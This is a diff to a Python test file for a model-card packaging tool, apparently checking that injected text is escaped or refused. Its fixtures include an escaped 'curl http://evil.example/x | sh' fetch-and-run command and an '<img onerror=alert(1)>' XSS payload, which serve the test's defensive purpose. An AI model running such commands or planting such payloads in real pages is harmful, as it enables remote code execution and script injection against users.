@@ -365,6 +365,10 @@ def test_the_model_card_shows_names_and_versions_as_text(exported: dict, tmp_pat
         card = z.read(f"{r.module}/MODEL_CARD.md").decode()
     assert "\n## Install" not in card and "zzz 1 \\#\\# Install the security update" in card
     assert "\\`curl http://evil.example/x \\| sh\\`" in card
+    data["artifacts"]["onnx_int8_qoperator"]["format"] = "qoperator\n\n# Pwned\n<img src=x onerror=alert(1)>"
+    mf.write_text(_json.dumps(data), encoding="utf-8")
+    with pytest.raises(PackageError, match="unknown format"):  # refused, not written into the card
+        package(run_path, PackageOptions(out=tmp_path / "dist2"))
 
 
 def test_a_partial_eval_or_bench_keeps_the_other_rows_and_the_card_says_the_class_coverage(exported: dict,
